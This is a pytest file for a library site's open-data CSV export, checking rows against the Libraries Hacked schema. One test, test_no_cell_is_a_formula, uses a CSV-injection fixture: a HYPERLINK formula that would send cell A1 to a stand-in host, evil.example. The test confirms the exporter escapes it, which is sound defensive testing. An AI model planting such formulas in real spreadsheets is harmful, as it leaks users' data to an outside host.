import csv
import io
import json
import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from librarysite.model import Library
from librarysite.opendata.libraries import COLUMNS, libraries_table
from tests.support.opendatacases import NOW, service

SCHEMA = json.loads((Path(__file__).parents[1] / "data" / "libraries.table-schema.json").read_text())


Row = dict[str, str]


def rows(library: Library, today: date = NOW.today) -> list[Row]:
    """Return the rows of the table."""
    content = libraries_table(library, today)["data/libraries.csv"].decode()
    assert content.count("\r\n") == content.count("\n")
    return list(csv.DictReader(io.StringIO(content)))


def faults(fields: list[dict[str, Any]], row: Row) -> list[str]:
    """Return what a table schema says against a row: type, required, pattern and enum (empty is no value)."""
    types = {"string": ".*", "integer": r"[+-]?[0-9]+", "year": "[0-9]{4}"}
    forms = {"default": ".*", "uri": r"https?://[^\s]+", "email": r"[^\s@]+@[^\s@]+\.[^\s@]+"}
    found = [] if [field["name"] for field in fields] == list(row) else ["columns"]
    for field in fields:
        name, limits = field["name"], field.get("constraints", {})
        cell = row.get(name, "")
        if not cell:
            found += [f"{name}: required"] if limits.get("required") else []
            continue
        for kind, fits in (
            ("type", re.fullmatch(types[field["type"]], cell)),
            ("format", re.fullmatch(forms[field["format"]], cell)),
            ("pattern", re.fullmatch(limits.get("pattern", ".*"), cell)),
            ("enum", cell in limits.get("enum", [cell])),
        ):
            found += [] if fits else [f"{name}: {kind}"]
    return found


def faults_of_table(fields: list[dict[str, Any]], table: list[Row]) -> list[str]:
    """Return what a schema says against all rows, the values that may stand only once among it."""
    found = [fault for row in table for fault in faults(fields, row)]
    for field in fields:
        cells = [row[field["name"]] for row in table if row.get(field["name"])]
        if field.get("constraints", {}).get("unique") and len(set(cells)) < len(cells):
            found.append(f"{field['name']}: unique")
    return found


def test_table_is_as_its_schema_says(library: Library, sample: Library) -> None:
    """The columns, types and values of both services' tables are those of the Libraries Hacked schema."""
    assert [field["name"] for field in SCHEMA["fields"]] == list(COLUMNS)
    assert faults_of_table(SCHEMA["fields"], rows(library)) == []
    assert faults_of_table(SCHEMA["fields"], rows(sample)) == []
    assert len(rows(sample)) == 10


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        ({"Postcode": ""}, "Postcode: required"),
        ({"Postcode": "lu1 2ng"}, "Postcode: pattern"),
        ({"Statutory": "yes"}, "Statutory: enum"),
        ({"Type of library": "IL"}, "Type of library: enum"),
        ({"Year closed": "2020-01"}, "Year closed: type"),
        ({"Unique property reference number": "1.0E+10"}, "Unique property reference number: type"),
        ({"URL": "libraries/north/"}, "URL: format"),
        ({"Email address": "nobody"}, "Email address: format"),
        ({"More": "1"}, "columns"),
    ],
)
def test_schema_notices_faults(library: Library, change: Row, fault: str) -> None:
    """Each kind of fault is noticed, so the test above can fail."""
    assert faults(SCHEMA["fields"], rows(library)[0] | change) == [fault]


def test_schema_notices_what_stands_twice(library: Library) -> None:
    """A value that may stand only once is noticed when it stands twice."""
    field = {"name": "A", "type": "string", "format": "default", "constraints": {"unique": True}}
    assert faults_of_table([field], [{"A": "1"}, {"A": "1"}]) == ["A: unique"]
    assert faults_of_table([field], [{"A": "1"}, {"A": "2"}]) == []


def test_row_of_a_library(library: Library) -> None:
    """The row of North, every cell by hand: the week in force, and the coming exceptions by their dates."""
    assert {name: cell for name, cell in rows(library)[0].items() if cell} == {
        "Local authority": "Testshire Council",
        "Library name": "North Library",
        "Address 1": "1 North Road",
        "Address 2": "Testtown",
        "Postcode": "LU1 2NG",
        "Unique property reference number": "000123456789",
        "Statutory": "Yes",
        "Type of library": "LAL",
        "Year opened": "1964",
        "Monday staffed hours": "09:00-17:00",
        "Tuesday staffed hours": "09:00-13:00,14:00-19:00",
        "Wednesday staffed hours": "09:00-17:00",
        "Thursday staffed hours": "09:00-17:00",
        "Saturday staffed hours": "10:00-13:00",
        "Monday unstaffed hours": "08:00-09:00,17:00-20:00",
        "Friday unstaffed hours": "20:00-24:00",
        "Special hours": (
            "2026-11-23: 08:00-08:30,2026-11-23: 10:00-20:00,"
            "2026-12-10: 09:00-12:00,2026-12-10: 13:00-17:00,"
            "2026-12-24: 09:00-13:00,2026-12-25: X,2026-12-26: X,2026-12-27: X,2026-12-28: 08:00-20:00,"
            "2026-12-29: 10:00-12:00,2026-12-29: 13:00-15:00,2027-01-01: X,2027-02-10: X,2027-03-26: X,"
            "2027-03-28: X,2027-03-29: X,2027-05-03: X,2027-05-31: X,2027-08-30: X"
        ),
        "Co-located": "Yes",
        "Co-located with": "The museum",
        "Notes": "New weekly hours from 7 June 2027",
        "URL": "https://libraries.example/libraries/north/",
        "Email address": "north@libraries.example",
    }


def test_row_of_a_library_closed_for_good(library: Library) -> None:
    """A closed library keeps its row with the year and the reason; it has no hours any more."""
    (row,) = [row for row in rows(library) if row["Library name"] == "Old Library"]
    assert (row["Year closed"], row["Notes"]) == ("2020", "The lease ended")
    assert [name for name, cell in row.items() if cell and "hours" in name] == []


def test_library_that_will_close_says_so(library: Library) -> None:
    """Before the day a library has no “Year closed”, and its notes tell when it closes."""
    row = rows(library)[1]
    assert (row["Year closed"], row["Notes"]) == ("", "Closes for good: April 2027")
    assert rows(library, date(2027, 4, 1))[1]["Year closed"] == "2027"


def test_library_without_what_the_schema_requires_is_left_out(library: Library) -> None:
    """The schema takes no library without a postcode."""
    assert "Library without a postcode" not in [row["Library name"] for row in rows(library)]
    assert len(rows(library)) == 3


def test_no_cell_is_a_formula(library: Library) -> None:
    """Names and addresses that a spreadsheet would run get an apostrophe; quotes and commas stay in the cell."""
    row = rows(library)[1]
    assert row["Library name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"South")'
    assert (row["Address 1"], row["Address 2"]) == ('\'+1 South Road, "The Cottage"', "'@Testtown")
    assert [cell for row in rows(library) for cell in row.values() if cell.startswith(tuple("=+-@"))] == []


def test_undecided_holiday_is_not_told_as_open(tmp_path: Path) -> None:
    """A bank holiday about which a library has not decided is neither open nor closed: the notes say so."""
    own = (Path(__file__).parents[1] / "cases" / "opendata" / "service.yaml").read_text()
    text = f"{own}holidays:\n  unless_told: decide\n"
    row = rows(service(tmp_path, service=text, status="closures: []\n"))[0]
    assert row["Special hours"] == ""
    assert "Not decided yet: 25 December 2026. Not decided yet: 26 December 2026." in row["Notes"]


def test_decided_holidays_stay_among_the_special_hours(tmp_path: Path) -> None:
    """Where one bank holiday is decided, it is told, and the others are in the notes."""
    own = (Path(__file__).parents[1] / "cases" / "opendata" / "service.yaml").read_text()
    text = f"{own}holidays:\n  unless_told: decide\n"
    status = "changed_hours:\n  - {branches: north, on: 2026-12-28, hours: closed, reason: Rest}\n"
    row = rows(service(tmp_path, service=text, status=status))[0]
    assert row["Special hours"] == "2026-12-28: X"
    assert "28 December" not in row["Notes"]
